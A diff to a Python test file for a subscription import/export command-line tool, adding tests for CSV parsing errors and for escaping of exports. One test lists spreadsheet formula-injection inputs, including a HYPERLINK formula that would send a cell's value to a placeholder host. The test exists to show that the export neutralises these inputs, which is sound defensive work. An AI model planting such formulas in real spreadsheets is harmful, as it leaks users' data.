@@ -4,6 +4,8 @@
 from __future__ import annotations
 
 import asyncio
+import csv
+import io
 import json
 from collections.abc import Sequence
 from pathlib import Path
@@ -163,14 +165,17 @@ def test_the_same_file_again_has_no_effect(config: Path) -> None:
     text = f"userId,groupId,subscribed,updatedAt\nann,news,true,{DAY}\nbob,news,true,\n"
     load(config, text)
     before = exported(config)
-    assert load(config, text).stdout == "2 choices imported\n"
+    assert load(config, text).stdout == "0 choices imported, 2 as before\n"
     assert (exported(config), len(history(config))) == (before, 2)
+    more = text + f"cat,news,false,{DAY}\ncat,news,true,2025-05-01\n"
+    result = load(config, more)
+    assert result.stdout == "1 choice imported, 2 as before, 1 later choice kept\n"
     # Nor after they have changed their minds.
     for user in ("ann", "bob"):
         change(config, user, TIME + 10**12, subscribed=False)
     assert load(config, text).stdout == "0 choices imported, 2 later choices kept\n"
     assert {one["subscribed"] for one in exported(config)} == {False}
-    assert len(history(config)) == 4
+    assert len(history(config)) == 5
 
 
 def test_a_later_choice_is_kept(config: Path) -> None:
@@ -263,6 +268,16 @@ def test_a_file_that_cannot_be_read_is_refused(config: Path) -> None:
     for head, message in (
         ("", "line 1: there is no column groupId, only nothing"),
         ("userId,groupId,subscribed,date\n", 'line 1: "date" is unknown; there are workspaceId'),
+        ("\n \r\n", "line 3: there is no column groupId, only nothing"),
+        ("userId,groupId,subscribed\ru,news,true\r", "line 1: new-line character seen"),
+        ('"userId" , "groupId"\nu,news\n', "line 1: ',' expected after '\"'; the rest of the file"),
+        ('"userId,groupId,subscribed\nu,news,true\n', "line 1: unexpected end of data; the rest"),
+        (f"{'x' * 131_073},groupId\n", "line 1: field larger than field limit (131072); the rest"),
+        ('[{"userId":"u"}]', "line 1: begins a JSON array; write each object on its own line"),
+        ("\n[\n", "line 2: begins a JSON array; write each object on its own line"),
+        ("userId,groupId\n".encode("utf-16"), "line 1: is not UTF-8; save the file as UTF-8"),
+        ("userId,groupId\n".encode("utf-16-le"), "line 1: is not UTF-8; save the file as UTF-8"),
+        ("z\xfcri,groupId\n".encode("latin-1"), "line 1: is not UTF-8; save the file as UTF-8"),
         (
             "userId;groupId;subscribed\n",
             "line 1: there is no column groupId, only userId;groupId;subscribed; commas separate",
@@ -271,6 +286,7 @@ def test_a_file_that_cannot_be_read_is_refused(config: Path) -> None:
         result = load(config, head)
         assert (result.exit_code, result.stdout) == (1, "")
         assert result.stderr.startswith(f"engage: {message}")
+        assert len(result.stderr.splitlines()) == 1
     # A quotation mark is missing: nobody knows where the next row begins.
     result = load(config, 'userId,groupId,subscribed\nann,news,true\n"u,news,true\nbob,news,true\n')
     assert "line 3: unexpected end of data; the rest of the file was not read" in result.stderr
@@ -278,6 +294,63 @@ def test_a_file_that_cannot_be_read_is_refused(config: Path) -> None:
     assert run("subscriptions", "import", "--config", config, "none.csv").exit_code == 2
     result = run("subscriptions", "import", "--config", config, "-", text="")
     assert result.stderr == "engage: choose one with --workspace: acme, other\n"
+
+
+@pytest.mark.parametrize("text", ["\n\r\n", "\ufeff\n\n"])
+def test_empty_lines_may_come_first(config: Path, text: str) -> None:
+    rows = f"{text}userId,groupId,subscribed\nann,news,true\nbob,news,perhaps\n"
+    result = load(config, rows)
+    assert result.stderr.startswith("engage: line 5: subscribed: ")
+    assert result.stdout == "1 choice imported\n"
+    lines = f'{text}{{"userId":"cat","groupId":"news","subscribed":true}}\n[1]\n'
+    result = load(config, lines)
+    assert result.stderr.startswith("engage: line 4: must be a JSON object")
+    assert result.stdout == "1 choice imported\n"
+
+
+#: Ids, and how they begin in CSV: a spreadsheet runs what looks like a formula.
+CELLS = {
+    "=1+1": "'=1+1",
+    '=HYPERLINK("http://a.example/?"&A1,"open")': "'=HYPERLINK(",
+    "@SUM(A1)": "'@SUM(A1)",
+    "\tx": "'\tx",
+    "\rx": "'\rx",
+    "+x": "'+x",
+    "-x": "'-x",
+    "-1+1": "'-1+1",
+    "+1+1": "'+1+1",
+    "-": "'-",
+    "'": "''",
+    "'x": "''x",
+    "'=x": "''=x",
+    "''": "'''",
+    "+49 (30) 123-45.6": "+49 (30) 123-45.6",
+    "+4930123": "+4930123",
+    "-5": "-5",
+    "-1.5e-7": "-1.5e-7",
+    "x=1": "x=1",
+    "a@b.c": "a@b.c",
+}
+
+
+def test_a_spreadsheet_runs_nothing_of_an_export(config: Path, tmp_path: Path) -> None:
+    for number, name in enumerate(CELLS):
+        change(config, name, TIME + number, subscribed=True)
+    text = run("subscriptions", "export", "--config", config, "--format", "csv").stdout
+    cells = [row["userId"] for row in csv.DictReader(io.StringIO(text, newline=""))]
+    assert len(cells) == len(CELLS)
+    for cell, beginning in zip(cells, CELLS.values(), strict=True):
+        assert cell.startswith(beginning)
+    fresh = tmp_path / "fresh.toml"
+    fresh.write_text(config.read_text().replace("engage.db", "fresh.db"))
+
+    async def create() -> None:
+        async with open_store(fresh):
+            pass
+
+    asyncio.run(create())
+    assert load(fresh, text).exit_code == 0
+    assert {one["userId"] for one in exported(fresh)} == CELLS.keys()
 
 
 @pytest.mark.parametrize("form", ["csv", "ndjson"])
@@ -332,7 +405,7 @@ def test_many_rows_are_imported_in_pages(config: Path) -> None:
         )
     assert sizes == [PAGE, PAGE]
     assert result.stderr == f"engage: busy; imported up to line {PAGE + 1}, run the command again\n"
-    assert load(config, text).stdout == f"{3 * PAGE} choices imported\n"
+    assert load(config, text).stdout == f"200 choices imported, {3 * PAGE - 200} as before\n"
     assert len(exported(config)) == 700
     assert len(history(config)) == 700
 
